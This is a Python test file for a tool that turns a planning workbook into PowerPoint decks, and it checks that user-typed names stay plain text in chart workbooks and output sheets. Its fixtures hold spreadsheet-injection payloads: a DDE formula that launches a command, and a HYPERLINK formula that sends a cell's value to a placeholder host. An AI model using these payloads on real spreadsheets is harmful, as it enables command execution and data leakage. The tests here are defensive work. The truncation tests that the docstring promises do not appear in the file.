"""What users type never turns into something else in what the software writes.

- Text behind a chart (the workbook embedded in each chart, which PowerPoint opens with *Modifier
  les données*) stays text: a famille or a motif typed ``=HYPERLINK(…)`` is not a formula there,
  a URL is not a link.
- A very long text (a libellé pasted 30 000 characters long) costs no more than a short one and is
  shown cut, ending with « … », on slides and in the output sheets.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from pptx import Presentation

from opc_excel.cli import DEMO_DECKS
from opc_excel.decks import build_deck
from opc_excel.pipeline import check_file
from opc_excel.workbook import contract
from tests.factory import clean_sheets, set_value, write_workbook

TODAY = date(2026, 1, 1)
IDS = [f"{kind}-{theme}" if theme else kind for kind, theme in DEMO_DECKS]

# What a spreadsheet would take for a formula, a link or a number if it were not written as text.
HYPERLINK = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
DDE = "=cmd|' /C calc'!A0"
URL = "http://exemple.invalid/page"
PLUS = "+1+1"
AT_SIGN = "@SUM(1+1)"
NUMBER = "123"


def write_as_text(path: Path, sheets: dict) -> Path:
    """Write the sheets, every text cell as text (openpyxl would make ``=…`` a formula)."""
    write_workbook(path, sheets)
    workbook = openpyxl.load_workbook(path)
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    workbook.save(path)
    return path


def add_to_list(sheets: dict, list_name: str, value: str) -> None:
    listes = sheets[contract.LISTES]
    col = listes[0].index(list_name)
    row = next((r for r in listes[1:] if r[col] is None), None)
    if row is None:
        row = [None] * len(listes[0])
        listes.append(row)
    row[col] = value


@pytest.fixture(scope="module")
def tricky_report(tmp_path_factory):
    """A small programme whose names are formulas, links and numbers, all valid list values."""
    sheets = clean_sheets()
    for list_name, value in ((contract.FAMILLES, HYPERLINK), (contract.FAMILLES, DDE), (contract.MOTIFS, URL),
                             (contract.QUARTIERS, PLUS), (contract.MAITRES_OUVRAGE, AT_SIGN),
                             (contract.FINANCEURS, NUMBER)):
        add_to_list(sheets, list_name, value)
    set_value(sheets, "Opérations", 2, "Famille", HYPERLINK)  # PER-AME-01
    set_value(sheets, "Opérations", 3, "Famille", DDE)  # COU-REH-01
    set_value(sheets, "Opérations", 1, "Libellé", HYPERLINK)
    set_value(sheets, "Opérations", 2, "Quartier", PLUS)
    set_value(sheets, "Opérations", 2, "Maître d'ouvrage", AT_SIGN)
    set_value(sheets, "Jalons", 2, "Motif de décalage", URL)  # PER-DEM-01's late works start
    set_value(sheets, "Jalons", 3, "Motif de décalage", URL)
    set_value(sheets, "Financements", 2, "Financeur", NUMBER)
    path = write_as_text(tmp_path_factory.mktemp("tricky") / "classeur.xlsx", sheets)
    report = check_file(path, at=None, today=TODAY)
    assert not report.blocking, [p.message for p in report.blocking]
    return report


def chart_workbooks(pptx: bytes) -> list[tuple[str, bytes]]:
    """Return (name, bytes) of every workbook embedded behind a chart of the deck."""
    deck = zipfile.ZipFile(io.BytesIO(pptx))
    return [(name, deck.read(name)) for name in deck.namelist()
            if name.startswith("ppt/embeddings/") and name.endswith(".xlsx")]


class DescribeTheWorkbookBehindEachChart:
    @pytest.mark.parametrize(("kind", "theme"), DEMO_DECKS, ids=IDS)
    def it_keeps_every_name_as_text_never_a_formula_a_link_or_a_number(self, tricky_report, kind, theme):
        embedded = chart_workbooks(build_deck(tricky_report, kind, theme=theme))
        for name, blob in embedded:
            package = zipfile.ZipFile(io.BytesIO(blob))
            sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
            assert "<f>" not in sheet_xml and "<f " not in sheet_xml, name
            assert "hyperlink" not in sheet_xml.lower(), name
            assert not any("hyperlink" in part.lower() or "externalLink" in part for part in package.namelist())
            ws = openpyxl.load_workbook(io.BytesIO(blob), data_only=False).active
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f" and cell.hyperlink is None, (name, cell.coordinate, cell.value)
            header = [c.value for c in ws[1]]
            categories = [row[0] for row in ws.iter_rows(min_row=2, values_only=True)]
            assert all(isinstance(v, str) for v in header[1:] + categories if v is not None), (name, header)

    def it_shows_the_formula_like_names_as_typed_in_the_chart_and_behind_it(self, tricky_report):
        texts = []
        for kind, theme in DEMO_DECKS:
            for _, blob in chart_workbooks(build_deck(tricky_report, kind, theme=theme)):
                ws = openpyxl.load_workbook(io.BytesIO(blob)).active
                texts += [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert HYPERLINK in texts and DDE in texts and URL in texts  # familles, motif: as typed, as text

    def it_keeps_the_names_as_text_in_the_output_sheets(self, tricky_report, tmp_path):
        from opc_excel.pipeline import write_outputs

        workbook = openpyxl.Workbook()
        write_outputs(workbook, tricky_report)
        path = tmp_path / "sorties.xlsx"
        workbook.save(path)
        reread = openpyxl.load_workbook(path)
        seen = set()
        for ws in reread.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
        assert {HYPERLINK, DDE, PLUS, AT_SIGN} <= seen


def slide_strings(pptx: bytes) -> list[str]:
    """Return every text of every slide (frames, table cells, chart categories), and the notes."""
    texts = []
    for slide in Presentation(io.BytesIO(pptx)).slides:
        for shape in slide.shapes:
            if shape.has_text_frame:
                texts.extend(p.text for p in shape.text_frame.paragraphs)
            if shape.has_table:
                texts.extend(cell.text for row in shape.table.rows for cell in row.cells)
            if shape.has_chart:
                texts.extend(str(c) for c in shape.chart.plots[0].categories)
                texts.extend(s.name for s in shape.chart.plots[0].series)
        texts.append(slide.notes_slide.notes_text_frame.text)
    return texts


_ = re  # used below
